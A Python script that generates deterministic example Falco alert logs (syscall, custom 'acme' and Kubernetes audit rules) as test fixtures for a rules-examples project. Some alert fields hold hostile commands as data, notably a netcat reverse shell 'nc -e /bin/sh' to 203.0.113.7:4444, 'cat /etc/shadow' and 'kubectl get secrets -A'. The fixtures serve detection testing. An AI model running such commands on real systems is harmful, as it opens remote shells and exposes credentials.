#!/usr/bin/env python3
"""Writes the example alert logs of rules-examples/alerts/ (deterministic: same bytes every run).

Each alert is what Falco's JSON output (spec section 6) prints for one upstream or k8saudit rule:
the rule's own output fields (keys as Falco prints them, `proc.aname[2]` with its argument),
`evt.time`, and for syscall rules the container fields Falco appends (`container.id`,
`container.image.repository`, ... with `null` where there is no value). Some alerts come from a
Falco that did not append container fields, so those keys are absent; the logs also carry the
lines a real log mixes in (startup messages, text-mode alerts, a truncated line, falcosidekick's
extra `uuid` key).

    python3 scripts/make_example_alerts.py          # rewrites rules-examples/alerts/
"""
import gzip
import io
import json
import pathlib
import re

OUT = pathlib.Path(__file__).resolve().parent.parent / "rules-examples" / "alerts"

# The output formats of the rules, as in falco_rules.yaml / falco-incubating_rules.yaml /
# k8s_audit_rules.yaml / rules-examples/user/acme_rules.yaml.
PROC = ("evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name "
        "proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty")
OUTPUTS = {
    "Terminal shell in container": "A shell was spawned in a container with an attached terminal | " + PROC + " exe_flags=%evt.arg.flags",
    "Read sensitive file untrusted": "Sensitive file opened for reading by non-trusted program | file=%fd.name gparent=%proc.aname[2] "
    "ggparent=%proc.aname[3] gggparent=%proc.aname[4] " + PROC,
    "Run shell untrusted": "Shell spawned by untrusted binary | parent_exe=%proc.pexe parent_exepath=%proc.pexepath "
    "pcmdline=%proc.pcmdline gparent=%proc.aname[2] ggparent=%proc.aname[3] aname[4]=%proc.aname[4] aname[5]=%proc.aname[5] "
    "aname[6]=%proc.aname[6] aname[7]=%proc.aname[7] " + PROC + " exe_flags=%evt.arg.flags",
    "Contact K8S API Server From Container": "Unexpected connection to K8s API Server from container | connection=%fd.name "
    "lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto " + PROC,
    "Launch Package Management Process in Container": "Package management process launched in container | " + PROC + " exe_flags=%evt.arg.flags",
    "Clear Log Activities": "Log files were tampered | file=%fd.name " + PROC,
    "Netcat Remote Code Execution in Container": "Netcat runs inside container that allows remote code execution | " + PROC + " exe_flags=%evt.arg.flags",
    "Unexpected outbound port from payments": "Unexpected outbound port from payments (connection=%fd.name port=%fd.sport "
    "image=%container.image.repository process=%proc.name user=%user.name)",
    "Shell in payments container": "Shell in payments container (user=%user.name process=%proc.name parent=%proc.pname "
    "command=%proc.cmdline image=%container.image.repository pod=%k8s.pod.name)",
    "Shell spawned in a container": "Shell spawned in a container (user=%user.name container=%container.name "
    "shell=%proc.name parent=%proc.pname cmdline=%proc.cmdline)",
    "Write below etc": "File below /etc opened for writing (file=%fd.name user=%user.name command=%proc.cmdline)",
    "Disallowed K8s User": "K8s Operation performed by user not in allowed list of users (user=%ka.user.name "
    "target=%ka.target.name/%ka.target.resource verb=%ka.verb uri=%ka.uri resp=%ka.response.code)",
    "Attach/Exec Pod": "Attach/Exec to pod (user=%ka.user.name pod=%ka.target.name resource=%ka.target.resource "
    "ns=%ka.target.namespace action=%ka.target.subresource command=%ka.uri.param[command])",
    "K8s Serviceaccount Created": "K8s Serviceaccount Created (user=%ka.user.name serviceaccount=%ka.target.name "
    "ns=%ka.target.namespace resource=%ka.target.resource resp=%ka.response.code decision=%ka.auth.decision reason=%ka.auth.reason)",
}
PRIORITY = {
    "Terminal shell in container": "Notice", "Read sensitive file untrusted": "Warning", "Run shell untrusted": "Notice",
    "Contact K8S API Server From Container": "Notice", "Launch Package Management Process in Container": "Error",
    "Clear Log Activities": "Warning", "Netcat Remote Code Execution in Container": "Warning",
    "Unexpected outbound port from payments": "Warning", "Shell in payments container": "Notice",
    "Shell spawned in a container": "Warning", "Write below etc": "Notice", "Disallowed K8s User": "Warning", "Attach/Exec Pod": "Notice", "K8s Serviceaccount Created": "Informational",
}
TAGS = {
    "Terminal shell in container": ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
    "Read sensitive file untrusted": ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
    "Run shell untrusted": ["T1059.004", "container", "host", "maturity_stable", "mitre_execution", "process", "shell"],
    "Contact K8S API Server From Container": ["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
    "Launch Package Management Process in Container": ["T1505", "container", "maturity_incubating", "mitre_persistence",
                                                       "process", "software_mgmt"],
    "Clear Log Activities": ["NIST_800-53_AU-10", "T1070", "container", "filesystem", "host", "maturity_stable",
                             "mitre_defense_evasion"],
    "Netcat Remote Code Execution in Container": ["T1059", "container", "maturity_stable", "mitre_execution", "network", "process"],
    "Unexpected outbound port from payments": ["acme", "network"],
    "Shell in payments container": ["acme", "shell"],
    "Shell spawned in a container": ["container", "mitre_execution", "shell"],
    "Write below etc": ["filesystem", "mitre_persistence"],
}
CONTAINER_KEYS = ["container.id", "container.image.repository", "container.image.tag", "container.name",
                  "k8s.ns.name", "k8s.pod.name"]

T0 = 1733306400000000000  # 2024-12-04T10:00:00Z


def iso(ns):
    import datetime
    seconds, nanos = divmod(ns, 1_000_000_000)
    t = datetime.datetime.fromtimestamp(seconds, datetime.timezone.utc)
    return t.strftime("%Y-%m-%dT%H:%M:%S") + f".{nanos:09d}Z"


def render(fmt, fields):
    def value(m):
        v = fields.get(m.group(0)[1:])
        return "<NA>" if v is None else str(v)
    return re.sub(r"%[a-z0-9_.]+(\[[^\]]*\])?", value, fmt)


def alert(n, rule, fields, container=None, source="syscall", extra=None, drop=()):
    """One alert line. `container`: the appended container fields (None: this Falco did not append
    them). Every %field of the rule's output must be in `fields` (None prints as null); `drop`
    removes some again, as a Falco whose output for the rule was customised would."""
    wanted = {m.group(0)[1:] for m in re.finditer(r"%[a-z0-9_.]+(\[[^\]]*\])?", OUTPUTS[rule])}
    assert wanted == set(fields), (rule, sorted(wanted ^ set(fields)))
    fields = {k: v for k, v in fields.items() if k not in drop}
    t = T0 + n * 1_234_567_891
    of = dict(fields)
    of["evt.time"] = t
    text = render(OUTPUTS[rule], fields)
    if container is not None:
        assert set(container) == set(CONTAINER_KEYS)
        of.update(container)
        text += " " + render("container_id=%container.id container_image=%container.image.repository "
                             "container_image_tag=%container.image.tag container_name=%container.name "
                             "k8s_ns=%k8s.ns.name k8s_pod_name=%k8s.pod.name", container)
    seconds = (t // 1_000_000_000) % 86400
    clock = f"{seconds // 3600:02d}:{seconds // 60 % 60:02d}:{seconds % 60:02d}.{t % 1_000_000_000:09d}"
    line = {
        "hostname": "worker-2" if source == "syscall" else "falco-k8saudit-0",
        "output": f"{clock}: {PRIORITY[rule]} {text}",
        "output_fields": dict(sorted(of.items())),
        "priority": PRIORITY[rule],
        "rule": rule,
        "source": source,
        "tags": TAGS.get(rule, ["k8s"]),
        "time": iso(t),
    }
    if extra:
        line.update(extra)
    return json.dumps(line, separators=(",", ":"))


def proc(name, pname, cmdline, user="root", uid=0, tty=34816, exepath=None, evt_type="execve"):
    return {"evt.type": evt_type, "user.name": user, "user.uid": uid, "user.loginuid": -1, "proc.name": name,
            "proc.exepath": exepath or f"/usr/bin/{name}", "proc.pname": pname, "proc.cmdline": cmdline, "proc.tty": tty}


def k8s_container(cid, image, tag, name, ns, pod):
    return {"container.id": cid, "container.image.repository": image, "container.image.tag": tag,
            "container.name": name, "k8s.ns.name": ns, "k8s.pod.name": pod}


def docker_container(cid, image, tag, name):
    # A plain Docker container: no Kubernetes metadata, so Falco prints null for the k8s fields.
    return {"container.id": cid, "container.image.repository": image, "container.image.tag": tag,
            "container.name": name, "k8s.ns.name": None, "k8s.pod.name": None}


RUNNER = k8s_container("3ad7b26ded6d", "registry.example.com/ci/build-runner", "2024.11", "runner", "ci", "runner-7d9f8-x2k4q")
NGINX = k8s_container("8f2c1e4a9b01", "docker.io/library/nginx", "1.27", "web", "shop", "web-5c7b9d-qp2lm")
BUILDER = k8s_container("b71e0c3d5a22", "registry.example.com/ci/image-builder", "3.19", "builder", "ci", "builder-6f5d-2mzx")
OPERATOR = k8s_container("c0ffee123456", "ghcr.io/example/cluster-operator", "v1.4.2", "manager", "operators",
                         "cluster-operator-86d4-7hq")
KUBECTL = k8s_container("d15ea5e0a0b1", "docker.io/bitnami/kubectl", "1.31", "debug", "default", "debug-shell")
NULL_IMAGE = docker_container("e4c1b2a39d8f", None, None, "sleepy_turing")


def upstream():
    exe = "EXE_WRITABLE|EXE_LOWER_LAYER"
    lines = [
        "Wed Dec  4 09:59:58 2024: Falco version: 0.39.2 (x86_64)",
        "Wed Dec  4 09:59:58 2024: Loading rules from file /etc/falco/falco_rules.yaml",
        "",
    ]
    n = 0

    def add(*args, **kwargs):
        nonlocal n
        n += 1
        lines.append(alert(n, *args, **kwargs))

    term = "Terminal shell in container"
    add(term, {**proc("bash", "runc", "bash"), "evt.arg.flags": exe}, RUNNER)
    add(term, {**proc("sh", "containerd-shim", "sh -i"), "evt.arg.flags": exe}, NGINX)
    add(term, {**proc("bash", "runc", "bash"), "evt.arg.flags": exe})  # no container fields appended
    add(term, {**proc("bash", "runc", "bash"), "evt.arg.flags": exe}, NULL_IMAGE)
    lines.append('10:00:09.123456789: Notice A shell was spawned in a container with an attached terminal | '
                 'evt_type=execve user=root process=bash')  # text output mixed in

    read = "Read sensitive file untrusted"

    def sensitive(name, cmdline, file, gparent, ggparent="systemd", pname="sh"):
        f = {**proc(name, pname, cmdline, tty=0, evt_type="openat"), "fd.name": file, "proc.aname[2]": gparent,
             "proc.aname[3]": ggparent, "proc.aname[4]": None}
        return f

    add(read, sensitive("restic", "restic backup /etc", "/etc/shadow", "backup-cron"), NULL_IMAGE)
    add(read, sensitive("restic", "restic backup /etc", "/etc/shadow", "bash"), NULL_IMAGE)
    add(read, sensitive("restic", "restic backup /etc", "/etc/sudoers", None, None), NULL_IMAGE)
    add(read, sensitive("cat", "cat /etc/shadow", "/etc/shadow", "sshd"), NULL_IMAGE,
        extra={"uuid": "1b0c7a3e-5c1f-4c8e-9a55-0f3f0d7e2c11"})  # forwarded by falcosidekick
    # A Falco whose output for the rule leaves out the ancestors: proc.aname[2] is not carried.
    no_ancestors = ("proc.aname[2]", "proc.aname[3]", "proc.aname[4]")
    add(read, sensitive("restic", "restic backup /etc", "/etc/shadow", "backup-cron"), NULL_IMAGE, drop=no_ancestors)
    add(read, sensitive("cat", "cat /etc/shadow", "/etc/shadow", "sshd"), NULL_IMAGE, drop=no_ancestors)
    lines.append('{"hostname":"worker-2","output":"10:00:12.000000000: Warning Sensitive file opened for reading by '
                 'non-trusted program | file=/etc/shadow","output_fields":{"evt.time":1733306412000000000,"fd.name":"/e')

    shell = "Run shell untrusted"

    def spawned(pname, pexe, pcmdline):
        return {**proc("sh", pname, "sh -c /opt/checks/disk.sh", tty=0), "proc.pexe": pexe, "proc.pexepath": pexe,
                "proc.pcmdline": pcmdline, "proc.aname[2]": "nginx", "proc.aname[3]": "containerd-shim",
                "proc.aname[4]": "systemd", "proc.aname[5]": None, "proc.aname[6]": None, "proc.aname[7]": None,
                "evt.arg.flags": exe}

    add(shell, spawned("node-agent", "/usr/local/bin/node-agent", "node-agent --interval 30s"), NGINX)
    add(shell, spawned("nginx", "/usr/sbin/nginx", "nginx: worker process"), NGINX)

    api = "Contact K8S API Server From Container"

    def connect(name, cmdline):
        return {**proc(name, "containerd-shim", cmdline, tty=0, evt_type="connect"),
                "fd.name": "10.244.1.17:41234->10.96.0.1:443", "fd.lport": 41234, "fd.rport": 443, "fd.type": "ipv4",
                "fd.l4proto": "tcp"}

    add(api, connect("manager", "manager --leader-elect"), OPERATOR)
    add(api, connect("kubectl", "kubectl get secrets -A"), KUBECTL)
    add(api, connect("kubectl", "kubectl get secrets -A"))  # no container fields appended
    lines.append('{"hostname":"worker-2","output":"Falco internal: syscall event drop","priority":"Debug",'
                 '"rule":"Falco internal: syscall event drop","time":"2024-12-04T10:00:20.000000000Z"}')

    pkg = "Launch Package Management Process in Container"
    add(pkg, {**proc("apk", "sh", "apk add --no-cache curl", tty=0), "evt.arg.flags": exe}, BUILDER)
    add(pkg, {**proc("apt-get", "bash", "apt-get install -y curl"), "evt.arg.flags": exe})
    add(pkg, {**proc("apk", "sh", "apk add --no-cache curl", tty=0), "evt.arg.flags": exe})

    add("Clear Log Activities", {**proc("logrotate", "cron", "logrotate /etc/logrotate.conf", tty=0,
                                         evt_type="openat"), "fd.name": "/var/log/syslog"}, NULL_IMAGE)
    add("Netcat Remote Code Execution in Container",
        {**proc("nc", "bash", "nc -e /bin/sh 203.0.113.7 4444"), "evt.arg.flags": exe}, NGINX)
    lines.append('{"hostname":"worker-2","rule":"Outbound Connection to C2 Servers","priority":"Warning","source":"syscall",'
                 '"time":"2024-12-04T10:00:30.000000000Z","output":"10:00:30.000000000: Warning Outbound connection to C2 '
                 'server","output_fields":{"evt.time":1733306430000000000,"fd.name":"10.0.0.5:51000->198.51.100.9:443",'
                 '"proc.name":"curl"}}')
    return lines


def acme():
    lines = []
    n = 100

    def add(*args, **kwargs):
        nonlocal n
        n += 1
        lines.append(alert(n, *args, **kwargs))

    payments = k8s_container("a1b2c3d4e5f6", "registry.example.com/acme/payments", "5.2.0", "api", "payments",
                             "payments-api-6c8d7-9xk2p")
    out = "Unexpected outbound port from payments"

    def conn(port):
        return {"fd.name": f"10.244.2.9:53114->10.96.12.40:{port}", "fd.sport": port,
                "container.image.repository": payments["container.image.repository"], "proc.name": "payments",
                "user.name": "app"}

    shell = "Shell in payments container"

    def sh(pod):
        return {"user.name": "root", "proc.name": "sh", "proc.pname": "runc", "proc.cmdline": "sh",
                "container.image.repository": payments["container.image.repository"], "k8s.pod.name": pod}

    add(out, conn(6379))
    add(out, conn(8080))
    add(shell, sh("payments-canary-5b7f9-r8d2c"))
    add(shell, sh("payments-api-6c8d7-9xk2p"))
    add(shell, sh(None))  # a Docker container outside Kubernetes: no pod name
    return lines


def k8saudit():
    lines = ["Wed Dec  4 09:59:58 2024: Enabled event sources: k8s_audit", "  "]
    n = 200

    def add(rule, fields, **kwargs):
        nonlocal n
        n += 1
        lines.append(alert(n, rule, fields, source="k8s_audit", **kwargs))

    def who(user, name, resource, verb, uri, code):
        return {"ka.user.name": user, "ka.target.name": name, "ka.target.resource": resource, "ka.verb": verb,
                "ka.uri": uri, "ka.response.code": code}

    add("Disallowed K8s User", who("csi-cinder-controller", "csi-6afb06dce281", "volumeattachments", "patch",
                                   "/apis/storage.k8s.io/v1/volumeattachments/csi-6afb06dce281/status", "200"))
    add("Disallowed K8s User", who("yacht", "my-pool-1", "nodepools", "update",
                                   "/apis/kube.cloud.ovh.com/v1alpha1/nodepools/my-pool-1/status", "200"))

    def exec_(user, pod, ns, command):
        return {"ka.user.name": user, "ka.target.name": pod, "ka.target.resource": "pods", "ka.target.namespace": ns,
                "ka.target.subresource": "exec", "ka.uri.param[command]": command}

    add("Attach/Exec Pod", exec_("kubernetes-admin", "nginx-676b6c5bbc-4xc6t", "hello-app", "cat"))
    add("Attach/Exec Pod", exec_("kubernetes-admin", "kubecon", "default", "sh"))
    add("Attach/Exec Pod", exec_("kubernetes-admin", "nginx-676b6c5bbc-4xc6t", "<NA>", "<NA>"))

    def sa(user, name):
        return {"ka.user.name": user, "ka.target.name": name, "ka.target.namespace": "ci",
                "ka.target.resource": "serviceaccounts", "ka.response.code": "201", "ka.auth.decision": "allow",
                "ka.auth.reason": "<NA>"}

    add("K8s Serviceaccount Created", sa("system:serviceaccount:ci:deployer", "build-42"))
    add("K8s Serviceaccount Created", sa("alice@example.com", "build-43"))
    lines.append('{"hostname":"falco-k8saudit-0","output":"K8s Serviceaccount Created (user=bob","priority":"Informational",'
                 '"rule":"K8s Serviceaccount Created","source":"k8s_audit","time":"2024-12-04T10:05:00.000000000Z"}')
    return lines


def custom():
    """Alerts of rules-examples/good/10-custom_rules.yaml, for 20-tuning.yaml (needs nothing from ../shared)."""
    lines = ["Wed Dec  4 09:59:58 2024: Falco initialized with configuration files:"]
    n = 300

    def add(*args, **kwargs):
        nonlocal n
        n += 1
        lines.append(alert(n, *args, **kwargs))

    def shell(pname, cmdline="sh -c date"):
        return {"user.name": "root", "container.name": "api", "proc.name": "sh", "proc.pname": pname,
                "proc.cmdline": cmdline}

    myorg = k8s_container("5e6f7a8b9c0d", "quay.io/myorg/api", "2.3.1", "api", "shop", "api-7b9c-5kq2d")
    add("Shell spawned in a container", shell("supervisord"), myorg)            # the appended exception value
    add("Shell spawned in a container", shell("supervisord"), NGINX)            # nginx image: not excepted
    add("Shell spawned in a container", shell("npm", "sh -c node-gyp rebuild"))  # npm: appended package manager
    add("Shell spawned in a container", shell("node"))                          # no image: ci_runners undecided
    add("Write below etc", {"fd.name": "/etc/hosts", "user.name": "root", "proc.cmdline": "vi /etc/hosts"}, NULL_IMAGE)
    return lines


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    for name, lines in (("upstream", upstream()), ("acme", acme()), ("k8saudit", k8saudit()),
                        ("custom", custom())):
        text = "\n".join(lines) + "\n"
        (OUT / f"{name}.jsonl").write_text(text)
    # The same upstream log gzipped, with no name or time in the header so the bytes are stable.
    raw = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0) as gz:
        gz.write((OUT / "upstream.jsonl").read_bytes())
    (OUT / "upstream.jsonl.gz").write_bytes(raw.getvalue())


if __name__ == "__main__":
    main()
